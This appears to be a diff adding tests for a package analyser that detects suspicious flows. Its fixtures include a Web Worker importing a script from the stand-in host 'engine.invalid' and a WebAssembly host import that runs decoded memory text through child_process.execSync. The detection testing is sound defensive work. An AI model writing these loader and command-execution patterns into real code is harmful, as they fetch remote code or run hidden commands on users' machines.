@@ -1,0 +1,39 @@
+import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
+import { flowsOf } from './sent.js';
+
+describe('a worker', () => {
+  const blob = (code: string): string =>
+    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' })));`;
+
+  it('runs scripts of a host that its code names', () => {
+    assert.deepEqual(flowsOf(blob(`importScripts('https://engine.invalid/e.js'); onmessage = run;`)), [
+      'downloaded>page-script',
+    ]);
+  });
+
+  it('runs what is published as a package, or lies beside it, like everybody', () => {
+    assert.deepEqual(flowsOf(blob(`importScripts('https://cdn.jsdelivr.net/npm/a@1/a.js'); onmessage = run;`)), []);
+    assert.deepEqual(flowsOf(blob(`importScripts('./engine.js'); onmessage = run;`)), []);
+  });
+});
+
+describe('a module of WebAssembly', () => {
+  const start = (run: string): readonly string[] => {
+    const code = `const cp = require('child_process'); let memory; const text = (p, n) => Buffer.from(memory.buffer, p, n).toString();
+      const bytes = Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDaW5jAAAKCQEHACAAQQFqCw==', 'base64');
+      WebAssembly.instantiate(bytes, { env: { call: (p, n) => { ${run} } } }).then(({ instance }) => { memory = instance.exports.memory; });`;
+    return analysePackage(packageOf({ 'index.js': code })).flows.map(
+      ({ source, sink, moment }) => `${source}>${sink} ${moment}`,
+    );
+  };
+
+  it('starts programs through what it asks its host for', () => {
+    assert.deepEqual(start('cp.execSync(text(p, n));'), ['decoded>run-as-command import']);
+  });
+
+  it('says something through it', () => {
+    assert.deepEqual(start('console.log(text(p, n));'), []);
+  });
+});
